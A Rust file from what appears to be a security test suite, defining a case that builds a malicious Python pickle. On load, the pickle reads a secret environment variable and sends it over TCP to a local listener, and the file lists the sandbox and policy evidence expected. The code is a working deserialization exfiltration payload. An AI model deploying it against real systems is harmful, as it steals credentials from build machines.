//! `posix.environ` and a socket, without a line of Python source.

use super::*;
use crate::pickle::{Assembler, Op};

/// A variable of the environment is sent away.
pub const ATTACK: Attack = Attack {
    id: "environment-read",
    title: "a secret of the environment sent by TCP",
    summary: "The pickle looks up a variable of the environment, where tokens and passwords \
              of build machines lie, and sends it to a listener. Nothing but the connection \
              can be seen from outside: reading the environment is no system call.",
    severity: Severity::High,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::UNSECURED_CREDENTIALS,
        techniques::EXFILTRATION_OVER_UNENCRYPTED_NON_C2_PROTOCOL,
        techniques::EXFILTRATION_VIA_CYBER_MEANS,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 526],
    references: &[
        Reference {
            title: "PyTorch: the compromised dependency torchtriton",
            url: "https://pytorch.org/blog/compromised-nightly-dependency/",
        },
        Reference {
            title: "Python documentation: os.environ",
            url: "https://docs.python.org/3/library/os.html#os.environ",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Received(SECRET)],
        policy: &[Evidence { kind: EventKind::Connect, text: "127.0.0.1:47001" }],
    },
    quick: false,
};

fn build(_scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    payload::file(ATTACK.id, target, |assembler| {
        // The socket is used three times: it is made once and remembered.
        assembler.global("socket", "socket").op(Op::EmptyTuple).op(Op::Reduce).index(Op::BinPut, 0);
        method(assembler, "connect");
        assembler.text("127.0.0.1").int(TCP_PORT.into()).op(Op::Tuple2).op(Op::Tuple1);
        assembler.op(Op::Reduce).op(Op::Pop);
        method(assembler, "sendall");
        assembler.global("builtins", "dict.get").global("posix", "environ");
        assembler.bytes(SECRET_VARIABLE.as_bytes()).bytes(b"").op(Op::Tuple3).op(Op::Reduce);
        assembler.op(Op::Tuple1).op(Op::Reduce).op(Op::Pop);
        method(assembler, "close");
        assembler.op(Op::EmptyTuple).op(Op::Reduce).op(Op::Pop);
    })
}

/// The opcodes that leave a method of the remembered socket.
fn method(assembler: &mut Assembler, name: &str) {
    assembler.global("builtins", "getattr").index(Op::BinGet, 0).text(name);
    assembler.op(Op::Tuple2).op(Op::Reduce);
}
